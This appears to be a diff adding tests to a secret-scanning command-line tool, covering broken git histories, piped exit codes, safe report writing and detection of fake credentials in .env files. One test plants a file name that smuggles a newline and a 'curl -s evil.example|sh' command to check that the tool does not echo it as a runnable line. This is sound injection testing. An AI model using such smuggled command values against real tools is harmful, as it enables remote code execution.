@@ -1,11 +1,14 @@
 /** `firebreak scan` as a process: what is planted is found with its place, and no output has it. */
-import { execFileSync } from 'node:child_process'
+import { execFileSync, spawnSync } from 'node:child_process'
 import {
+  appendFileSync,
   existsSync,
   mkdirSync,
   mkdtempSync,
   readFileSync,
+  readdirSync,
   rmSync,
+  statSync,
   symlinkSync,
   writeFileSync,
 } from 'node:fs'
@@ -13,6 +16,7 @@ import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { keepIgnored } from '../../src/app/ignore-file.ts'
+import { findIn } from '../../src/scan/find.ts'
 import { firebreak } from '../run.ts'
 import { drawn, uuid } from './planted.ts'
 
@@ -241,4 +245,100 @@ test.each([
   const out = await run(...args)
   expect(out).toContain(said)
   expect(out).toContain('exit 2')
+})
+
+const lines = (out: string): readonly string[] => out.split('\n')
+
+test('a history that git cannot read is no clean one: it is a finding, until it is accepted', async () => {
+  const broken = join(dir, 'broken')
+  mkdirSync(broken)
+  execFileSync('git', ['init', '-q'], { cwd: broken })
+  appendFileSync(join(broken, '.git/config'), '[broken\n')
+  const scan = async (...args: readonly string[]): Promise<string> =>
+    await firebreak(['scan', broken, '--only', 'history', ...args], { env, cwd: dir })
+  const out = await scan()
+  expect(out).toContain('exit 1')
+  const id = /id (not-looked-at-[0-9a-f]{12})/.exec(out)?.[1] ?? ''
+  expect(await scan('--accept', id, '--reason', 'a template for tests')).toContain(
+    'accepted: not-looked-at-',
+  )
+  expect(await scan()).not.toContain('exit')
+})
+
+test('whoever reads no further gets no exit code of a clean folder', () => {
+  const many = join(dir, 'many')
+  mkdirSync(many)
+  writeFileSync(
+    join(many, 'a.sh'),
+    Array.from({ length: 900 }, (_, at) => `HCLOUD_TOKEN=${drawn(`many ${at}`, 64)}\n`).join(''),
+  )
+  const program = join(import.meta.dirname, '../../bin/firebreak')
+  const text = `set -o pipefail; '${program}' scan '${many}' --only checkout | head -1`
+  const { status } = spawnSync('bash', ['-c', text], { env, encoding: 'utf8' })
+  expect(status).not.toBe(0)
+})
+
+test.each([
+  [
+    'a second salt',
+    `salt: ${'0'.repeat(32)}\nsalt: ${'1'.repeat(32)}\n`,
+    '.firebreak-ignore, line 2',
+  ],
+  ['a salt that is none', 'salt: ghp_0123456789abcdefghij\n', '.firebreak-ignore, line 1'],
+])('%s hides nothing', async (_, text, said) => {
+  const odd = mkdtempSync(join(dir, 'odd-'))
+  writeFileSync(join(odd, '.firebreak-ignore'), text)
+  const out = await firebreak(['scan', odd, '--only', 'checkout'], { env, cwd: dir })
+  expect(out).toContain(said)
+  expect(out).toContain('exit 2')
+})
+
+test('a report goes through no link and into no pipe, and is there whole for its owner alone', async () => {
+  const target = join(dir, 'precious')
+  writeFileSync(target, 'mine')
+  symlinkSync(target, join(dir, 'link.sarif'))
+  execFileSync('mkfifo', [join(dir, 'pipe.html')])
+  for (const args of [
+    ['--sarif', join(dir, 'link.sarif')],
+    ['--html', join(dir, 'pipe.html')],
+    ['--svg', join(dir, 'nowhere/out.svg')],
+  ]) {
+    const out = await run('--only', 'checkout', ...args)
+    expect(out).toMatch(/is no regular file|cannot be written/)
+    expect(out).toContain('exit 2')
+  }
+  expect(readFileSync(target, 'utf8')).toBe('mine')
+  await run('--only', 'checkout', '--svg', join(dir, 'own.svg'))
+  expect(statSync(join(dir, 'own.svg')).mode & 0o777).toBe(0o600)
+  expect(readdirSync(dir).filter((name) => name.endsWith('.tmp'))).toEqual([])
+})
+
+test('a name of a file that looks like a command or a link is no line of the plan, and no link in SARIF', async () => {
+  const hostile = mkdtempSync(join(dir, 'hostile-'))
+  const name =
+    'x\n       firebreak custody add prod; curl -s evil.example|sh #[ok](https:__evil.example).txt'
+  writeFileSync(join(hostile, name), `HCLOUD_TOKEN=${planted.history}\n`)
+  const sarif = join(dir, 'hostile.sarif')
+  const args = ['scan', hostile, '--only', 'checkout']
+  const plan = await firebreak([...args, '--fix', '--sarif', sarif], { env, cwd: dir })
+  expect(plan).toContain('curl -s evil.example')
+  expect(lines(plan).filter((line) => /^\s*firebreak custody add prod/.test(line))).toEqual([])
+  const { runs } = JSON.parse(readFileSync(sarif, 'utf8'))
+  for (const { message } of runs[0].results) expect(message.text).not.toMatch(/(?<!\\)\[/)
+})
+
+test.each([
+  ['.env', 'DATABASE_URL=postgres://app:Sup3r$ecretProd9@db.a-corp.io/prod', true],
+  ['.env', 'DATABASE_URL=postgres://app:q8Zr2Lm)w%@db.a-corp.io/prod', true],
+  ['.env', 'DATABASE_URL=postgres://app:$DB_PASSWORD@db.a-corp.io/prod', false],
+  ['.env', 'DATABASE_URL=postgres://app:${DB_PASSWORD}@db.a-corp.io/prod', false],
+  ['.env', 'DATABASE_URL=postgres://app:<password>@db.a-corp.io/prod', false],
+  ['.env.latest', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', true],
+  ['.env.attestation', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', true],
+  ['.ENV', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', true],
+  ['.env.example', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', false],
+  ['.env.test', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', false],
+  ['a.sh', `TOKEN=ghp_${'a8Kd03Lmq9XxX2'.repeat(3).slice(0, 36)}`, true],
+])('%s with %s', (file, text, isFound) => {
+  expect(findIn(`${text}\n`, file).length > 0).toBe(isFound)
 })
